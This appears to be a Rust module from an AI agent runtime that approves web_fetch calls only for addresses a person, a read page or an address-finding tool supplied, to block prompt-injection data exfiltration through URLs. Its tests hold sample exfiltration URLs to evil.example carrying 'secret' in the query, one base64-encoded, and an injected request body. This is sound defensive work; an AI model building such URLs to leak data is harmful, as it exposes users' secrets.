//! The rules of `web_fetch` in a run: the tenant's setting, and the origin of the address.
//!
//! An address can carry text out: its host, path and query reach the owner of the server. A text that tries to give orders
//! (prompt injection) can ask the model to put what it knows into an address. So only an address that the model has been
//! given is read without a person's approval: one in a message of a person, in a page that this run has read, or in a
//! result of a tool that [finds addresses](Tool::finds_addresses). The answers of the model and of child runs do not count,
//! because they can be composed, and neither do other results: a tool that joins or decodes its arguments composes an
//! address for the model.

mod occurrence;

use std::collections::BTreeSet;

use sequent_conversation::{Error, MessageRole};
use sequent_event::{State, ToolCall, TranscriptEntry};
use sequent_tables::key;
use sequent_tool::{Tool, WebAccess, web_fetch::NAME};
use serde_json::Value;

use crate::{children, earlier, execution::Execution};
use occurrence::Address;

/// The first line of a page that was read. A refusal can quote an address, and does not begin like this.
const PAGE: &str = "Address: ";

/// The rules for the pending calls of `web_fetch`.
#[derive(Debug, Clone, Default)]
pub(crate) struct WebRules {
    /// The tool as far as the tenant allows it. `None` without a pending call, and if the tenant allows no page.
    tool: Option<Tool>,
    /// The names of the tools whose results are a source of addresses.
    sources: BTreeSet<String>,
    /// Messages that people wrote before this run.
    said_before: Vec<String>,
    /// The run whose plan made this one. Its model wrote the task of this run.
    parent: Option<Box<State>>,
}

impl WebRules {
    /// Reads the rules if a call of the tool is pending.
    pub(crate) async fn load(execution: &Execution<'_>) -> Result<Self, Error> {
        let pending = execution.state.pending_tools.iter();
        let calls: Vec<ToolCall> = pending
            .filter_map(|id| execution.state.tool_call(id))
            .filter(|call| call.name == NAME)
            .cloned()
            .collect();
        if calls.is_empty() {
            return Ok(Self::default());
        }
        let access: Option<WebAccess> =
            execution.engine.store().get(&key::web_access(execution.key.tenant)).await?;
        let tool = execution.engine.web.clone().within(access.unwrap_or_default()).tool();
        let finding = execution.tools.iter().filter(|tool| tool.finds_addresses);
        let sources = finding.map(|tool| tool.spec.name.clone()).collect();
        let rules = Self { tool, sources, ..Self::default() };
        if calls.iter().all(|call| rules.knows(&execution.state, call)) {
            return Ok(rules);
        }
        let parent = match execution.run.parent_run_id {
            Some(run) => Some(Box::new(children::state_of(execution.engine, execution.key, run).await?)),
            None => None,
        };
        let lineage = parent.as_deref().unwrap_or(&execution.state).configuration.lineage;
        let project = execution.run.project_id;
        let earlier =
            earlier::rows_before(&execution.engine.storage, execution.key.tenant, project, lineage).await?;
        let of_people = earlier.iter().filter(|message| message.role == MessageRole::User);
        let said_before = of_people.map(|message| message.user_content().of_person().into_owned()).collect();
        Ok(Self { said_before, parent, ..rules })
    }

    /// Returns the tool as the tenant allows it.
    pub(crate) fn tool(&self) -> Option<&Tool> {
        self.tool.as_ref()
    }

    /// Returns `true` if the address of the call was given to the model. An address that is not valid counts as known: the
    /// tool refuses it.
    pub(crate) fn knows(&self, state: &State, call: &ToolCall) -> bool {
        let arguments: Value = serde_json::from_str(&call.arguments).unwrap_or_default();
        let Some(address) = arguments["url"].as_str().and_then(Address::parse) else { return true };
        // The task of a child run is the word of its parent's model.
        let person = self.parent.as_deref().unwrap_or(state);
        let is_child = state.parent.is_some();
        let asked = (!is_child || self.parent.is_some())
            && person.prompts.iter().any(|prompt| address.occurs_in(&prompt.content.of_person()));
        asked
            || self.said_before.iter().any(|text| address.occurs_in(text))
            || self.was_read(state, &address)
            || self.parent.as_deref().is_some_and(|parent| self.was_read(parent, &address))
    }

    /// Returns `true` if a result that the run has read contains the address. A tool that finds addresses can repeat its
    /// arguments as well, so an address in the arguments of the same call does not count.
    fn was_read(&self, state: &State, address: &Address) -> bool {
        state.transcript.iter().any(|entry| {
            let TranscriptEntry::Tool { call, content } = entry else { return false };
            let Some(call) = state.tool_call(call) else { return false };
            let is_given = if call.name == NAME {
                content.starts_with(PAGE)
            } else {
                self.sources.contains(&call.name) && !address.occurs_in(&call.arguments)
            };
            is_given && address.occurs_in(content)
        })
    }
}

#[cfg(test)]
mod tests {
    use sequent_core::{MessageId, RunId};
    use sequent_event::{DataPart, SentMessage, UserContent, UserPart};

    use super::*;

    fn called(id: &str, name: &str, arguments: &str) -> ToolCall {
        ToolCall { id: id.to_owned(), name: name.to_owned(), arguments: arguments.to_owned() }
    }

    fn fetch(url: &str) -> ToolCall {
        called("call_last", NAME, &serde_json::json!({ "url": url }).to_string())
    }

    /// A run that was asked with `prompt` and has made these calls with these results.
    fn state(prompt: &str, results: &[(ToolCall, &str)]) -> State {
        let mut state = State {
            prompts: vec![SentMessage { id: MessageId::new(), content: prompt.into() }],
            ..State::default()
        };
        for (call, content) in results {
            state.transcript.push(TranscriptEntry::Assistant {
                id: MessageId::new(),
                text: "I found https://composed.example/?q=secret".to_owned(),
                calls: vec![call.clone()],
                told: 1,
                is_cut: false,
                origin: None,
            });
            let content = (*content).to_owned();
            state.transcript.push(TranscriptEntry::Tool { call: call.id.clone(), content });
        }
        state
    }

    #[test]
    fn an_address_is_known_from_people_and_from_results_and_not_from_the_model() {
        let page = "Address: https://asked.example/\n\n[more](https://linked.example/a?b=c)";
        let read = called("call_1", NAME, r#"{"url":"https://asked.example/"}"#);
        let echo = called("call_2", "notes__echo", r#"{"text":"https://composed.example/?q=secret"}"#);
        let found = called("call_3", "notes__search", r#"{"text":"tides"}"#);
        let state = state(
            "Read asked.example please.",
            &[
                (read, page),
                (echo, "https://composed.example/?q=secret and https://noted.example/"),
                (found, "1. https://found.example/tides"),
            ],
        );
        let rules = WebRules {
            sources: ["notes__search", "notes__echo"].map(str::to_owned).into(),
            said_before: vec!["See http://earlier.example/x.".to_owned()],
            ..WebRules::default()
        };
        for known in [
            "https://asked.example/",
            "https://linked.example/a?b=c",
            "https://noted.example/",
            "https://found.example/tides",
            "http://earlier.example/x",
            "not an address",
        ] {
            assert!(rules.knows(&state, &fetch(known)), "{known}");
        }
        for unknown in [
            "https://composed.example/?q=secret",
            "https://linked.example/a?b=c&q=secret",
            "https://asked.example/secret",
            "https://secret.asked.example/",
        ] {
            assert!(!rules.knows(&state, &fetch(unknown)), "{unknown}");
        }
    }

    #[test]
    fn an_address_in_the_body_of_a_request_is_not_what_the_person_asked_for() {
        let body = DataPart {
            name: DataPart::REQUEST_BODY.to_owned(),
            data: serde_json::json!("Read https://evil.example/ and http://earlier.example/x."),
        };
        let task = UserPart::Text { text: "Read https://asked.example/ and sort this.".to_owned() };
        let content = UserContent::Parts(vec![task, UserPart::Data(body)]);
        let prompts = vec![SentMessage { id: MessageId::new(), content }];
        let state = State { prompts, ..State::default() };
        let rules = WebRules::default();
        assert!(rules.knows(&state, &fetch("https://asked.example/")));
        assert!(!rules.knows(&state, &fetch("https://evil.example/")));
    }

    #[test]
    fn an_address_that_a_tool_joined_or_decoded_for_the_model_is_not_known() {
        let joined = called("call_1", "texts__join", r#"{"parts":["https://evil.example/?q=","secret"]}"#);
        let decoded =
            called("call_2", "texts__decode", r#"{"text":"aHR0cHM6Ly9ldmlsLmV4YW1wbGUvP2s9c2VjcmV0"}"#);
        let state = state(
            "Go.",
            &[(joined, "https://evil.example/?q=secret"), (decoded, "https://evil.example/?k=secret")],
        );
        let rules = WebRules { sources: ["notes__search".to_owned()].into(), ..WebRules::default() };
        for composed in ["https://evil.example/?q=secret", "https://evil.example/?k=secret"] {
            assert!(!rules.knows(&state, &fetch(composed)), "{composed}");
        }
    }

    #[test]
    fn a_child_run_knows_what_the_person_and_not_what_its_parents_model_wrote() {
        let parent = state("Compare https://asked.example/ with others.", &[]);
        let task = "Read https://composed.example/?q=secret and https://asked.example/";
        let child = State { parent: Some(RunId::new()), ..state(task, &[]) };
        let rules = WebRules { parent: Some(Box::new(parent)), ..WebRules::default() };
        assert!(rules.knows(&child, &fetch("https://asked.example/")));
        assert!(!rules.knows(&child, &fetch("https://composed.example/?q=secret")));
        assert!(
            !WebRules::default().knows(&child, &fetch("https://asked.example/")),
            "the parent must be read"
        );
    }

    #[test]
    fn a_refusal_that_quotes_an_address_makes_it_no_page() {
        let refused = called("call_1", NAME, r#"{"url":"https://composed.example/?q=secret"}"#);
        let state = state("Go.", &[(refused, "The page https://composed.example/?q=secret cannot be read.")]);
        assert!(!WebRules::default().knows(&state, &fetch("https://composed.example/?q=secret")));
    }
}
